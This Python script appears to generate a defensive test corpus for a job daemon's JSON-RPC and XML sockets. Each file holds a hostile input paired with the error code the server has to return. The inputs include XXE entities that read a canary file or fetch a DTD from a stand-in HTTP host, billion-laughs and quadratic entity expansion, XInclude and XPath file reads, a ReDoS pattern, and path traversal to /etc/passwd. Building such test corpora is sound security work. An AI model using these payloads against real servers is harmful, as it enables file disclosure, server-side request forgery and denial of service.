"""Writes the attack corpus of tests/test_attacks.py: json/NAME.CODE.json and xml/NAME.CODE.xml.

CODE is the error code a client must get for the file: the JSON-RPC `data.code` on the API socket, evQueue's
`error-code` on the XML sockets (OK: an answer with status OK, for a request jobd may serve). `@CANARY@` stands for
the path of a file no request may read, `@HTTP@` for the address of an HTTP server no request may reach: the test
puts its own in. Run it from this directory to write the files again after changing the lists below.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent


def request(method: str, params: Any = None, request_id: Any = 1) -> bytes:
    message = {"jsonrpc": "2.0", "id": request_id, "method": method}
    if params is not None:
        message["params"] = params
    return json.dumps(message, separators=(",", ":")).encode()


JSON = {
    "deep-arrays.PARSE_ERROR": b"[" * 10000 + b"]" * 10000,
    "deep-objects.PARSE_ERROR": b'{"a":' * 5000 + b"1" + b"}" * 5000,
    "deep-unclosed.PARSE_ERROR": b"[" * 20000,
    "deep-65-in-params.PARSE_ERROR": b'{"jsonrpc":"2.0","id":1,"method":"ping","params":{"x":'
    + b"[" * 64
    + b"]" * 64
    + b"}}",
    "huge-integer-id.PARSE_ERROR": b'{"jsonrpc":"2.0","id":' + b"9" * 5000 + b',"method":"ping"}',
    "huge-float.INVALID_PARAMS": b'{"jsonrpc":"2.0","id":1,"method":"job.get","params":{"id":1e999999}}',
    "huge-integer-param.INVALID_PARAMS": b'{"jsonrpc":"2.0","id":1,"method":"job.get","params":{"id":'
    + b"9" * 4000
    + b"}}",
    "nan.PARSE_ERROR": b'{"jsonrpc":"2.0","id":1,"method":"job.get","params":{"id":NaN}}',
    "lone-surrogate-escape.PARSE_ERROR": b'{"jsonrpc":"2.0","id":1,"method":"job.submit",'
    b'"params":{"command":["/bin/echo","\\udc80"]}}',
    "raw-surrogate.PARSE_ERROR": b'{"jsonrpc":"2.0","id":1,"method":"ping\xed\xa0\x80"}',
    "overlong-slash.PARSE_ERROR": b'{"jsonrpc":"2.0","id":1,"method":"job.submit",'
    b'"params":{"command":["/bin/cat",".\xc0\xaf.\xc0\xafetc/passwd"]}}',
    "overlong-nul.PARSE_ERROR": b'{"jsonrpc":"2.0","id":1,"method":"ping\xc0\x80"}',
    "raw-nul.PARSE_ERROR": b'{"jsonrpc":"2.0","id":1,"method":"ping\x00"}',
    "nul-escape-in-queue.INVALID_PARAMS": request("job.submit", {"command": ["/bin/true"], "queue": "default\0x"}),
    "bom.INVALID_REQUEST": b"\xef\xbb\xbf" + request("ping"),
    "bom-after-space.INVALID_REQUEST": b" \xef\xbb\xbf" + request("ping"),  # blanks first choose nothing
    "utf16.INVALID_REQUEST": "\ufeff".encode("utf-16-le") + request("ping").decode().encode("utf-16-le"),
    "queue-traversal.INVALID_PARAMS": request("job.submit", {"command": ["/bin/true"], "queue": "../../etc/passwd"}),
    "queue-slash.INVALID_PARAMS": request("queue.pause", {"name": "default/x"}),
    "task-traversal.INVALID_PARAMS": request("job.submit", {"task": "../echo"}),
    "workflow-traversal.INVALID_PARAMS": request("instance.launch", {"workflow": "../../etc/passwd"}),
    "workflow-get-traversal.INVALID_PARAMS": request("workflow.get", {"name": "../x"}),
    "schedule-dotdot.INVALID_PARAMS": request("schedule.trigger", {"name": ".."}),
    "env-name-injection.INVALID_PARAMS": request("job.submit", {"command": ["/bin/true"], "env": {"X=1 Y": "2"}}),
    "param-name-nul.INVALID_PARAMS": request("job.submit", {"task": "envtask", "params": {"A\0B": "x"}}),
    "unknown-member.INVALID_REQUEST": b'{"jsonrpc":"2.0","id":1,"method":"ping","__proto__":{"admin":true}}',
    "dunder-method.METHOD_NOT_FOUND": request("__class__"),
    "batch-of-junk.INVALID_REQUEST": b"[" + b",".join([b"1", b'"x"', b"null", b"{}"] * 2500) + b"]",
    "nul-escapes-then-junk.PARSE_ERROR": b'{"jsonrpc":"2.0","id":"' + b"\\u0000" * 1000 + b'","method":"ping"} x',
    "http-request.INVALID_REQUEST": b"GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
    "tls-hello.INVALID_REQUEST": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
}

_LAUGHS = b"".join(
    b' <!ENTITY lol%d "%s">\n' % (level, (b"&lol%d;" % (level - 1) if level > 1 else b"&lol;") * 10)
    for level in range(1, 10)
)

XML = {
    "billion-laughs.INVALID_XML": b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + _LAUGHS
    + b']>\n<ping comment="&lol9;"/>\n',
    "billion-laughs-in-root.INVALID_XML": b'<ping><!DOCTYPE lolz [<!ENTITY lol "lol">' + _LAUGHS + b"]>&lol9;</ping>",
    "quadratic-blowup.INVALID_XML": b'<!DOCTYPE r [<!ENTITY a "'
    + b"A" * 50000
    + b'">]><ping comment="'
    + b"&a;" * 2000
    + b'"/>',
    "xxe-file.INVALID_XML": b'<?xml version="1.0"?><!DOCTYPE ping [<!ENTITY x SYSTEM "file://@CANARY@">]>'
    b'<ping comment="&x;"/>',
    "xxe-file-in-parameter.INVALID_XML": b'<!DOCTYPE instance [<!ENTITY x SYSTEM "file://@CANARY@">]>'
    b'<instance action="launch" name="x"><parameter name="p" value="&x;"/></instance>',
    "xxe-http.INVALID_XML": b'<!DOCTYPE ping [<!ENTITY x SYSTEM "http://@HTTP@/xxe">]><ping>&x;</ping>',
    "xxe-parameter-entity.INVALID_XML": b'<!DOCTYPE ping [<!ENTITY % p SYSTEM "http://@HTTP@/evil.dtd"> %p;]><ping/>',
    "external-dtd-file.INVALID_XML": b'<!DOCTYPE ping SYSTEM "file://@CANARY@"><ping/>',
    "external-dtd-http.INVALID_XML": b'<!DOCTYPE ping PUBLIC "-//X//Y" "http://@HTTP@/x.dtd"><ping/>',
    "doctype-inside-root.INVALID_XML": b'<ping><!DOCTYPE x SYSTEM "http://@HTTP@/x.dtd"></ping>',
    "entity-declaration-inside-root.INVALID_XML": b'<ping><!ENTITY x SYSTEM "file://@CANARY@"></ping>',
    "undeclared-entity.INVALID_XML": b'<instance action="launch" name="&xxe;"/>',
    "xinclude-file.UNKNOWN_WORKFLOW": b'<instance action="launch" name="nope" xmlns:xi="http://www.w3.org/2001/XInclude">'
    b'<xi:include href="file://@CANARY@" parse="text"/></instance>',
    "xpath-document.INVALID_PARAMETER": b'<workflows action="list" xpathfilter="document(&apos;file://@CANARY@&apos;)"/>',
    "xpath-unparsed-text.INVALID_PARAMETER": b'<workflows action="list" '
    b'xpathfilter="unparsed-text(&apos;file://@CANARY@&apos;)"/>',
    "xpath-exslt-regexp.INVALID_PARAMETER": b'<workflows action="list" '
    b'xpathfilter="re:test(&apos;aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!&apos;, &apos;(a+)+$&apos;)"/>',
    "xml-stylesheet-pi.OK": b'<?xml-stylesheet type="text/xsl" href="file://@CANARY@"?><ping/>',
    "deep-nesting.INVALID_XML": b"<a>" * 100 + b"</a>" * 100,
    "deep-nesting-unclosed.INVALID_XML": b"<a>" * 20000,
    "nul-byte.INVALID_XML": b'<ping comment="a\x00b"/>',
    "nul-char-reference.INVALID_XML": b'<ping comment="a&#0;b"/>',
    "surrogate-char-reference.INVALID_XML": b'<ping comment="&#xD800;"/>',
    "overlong-utf8.INVALID_XML": b'<ping comment="..\xc0\xaf..\xc0\xafetc"/>',
    "raw-surrogate-utf8.INVALID_XML": b'<ping comment="\xed\xa0\x80"/>',
    "invalid-utf8.INVALID_XML": b'<ping comment="\xff\xfe"/>',
    # A UTF-8 byte order mark may start an XML document (XML 1.0, appendix F): dropped, the request answered.
    "bom.OK": b"\xef\xbb\xbf<ping/>",
    "utf16.INVALID_XML": "\ufeff<ping/>".encode("utf-16-le"),
    "encoding-declared-utf16.INVALID_XML": b'<?xml version="1.0" encoding="UTF-16"?><ping/>',
    "duplicate-attribute.INVALID_XML": b'<ping a="1" a="2"/>',
    "huge-name.INVALID_XML": b"<" + b"a" * 60000 + b"/>",
    "end-tag-first.INVALID_XML": b"</ping>",
    "cdata-outside-root.INVALID_XML": b"<![CDATA[<ping/>]]>",
    "workflow-traversal.INVALID_PARAMETER": b'<instance action="launch" name="../../etc/passwd"/>',
    "workflow-get-traversal.INVALID_PARAMETER": b'<workflow action="get" name="../x"/>',
    "unterminated.INVALID_XML": b'<ping comment="',
}


def main() -> None:
    for directory, files, suffix in (("json", JSON, ".json"), ("xml", XML, ".xml")):
        (HERE / directory).mkdir(exist_ok=True)
        for old in (HERE / directory).glob(f"*{suffix}"):
            old.unlink()
        for name, data in files.items():
            (HERE / directory / f"{name}{suffix}").write_bytes(data)


if __name__ == "__main__":
    main()
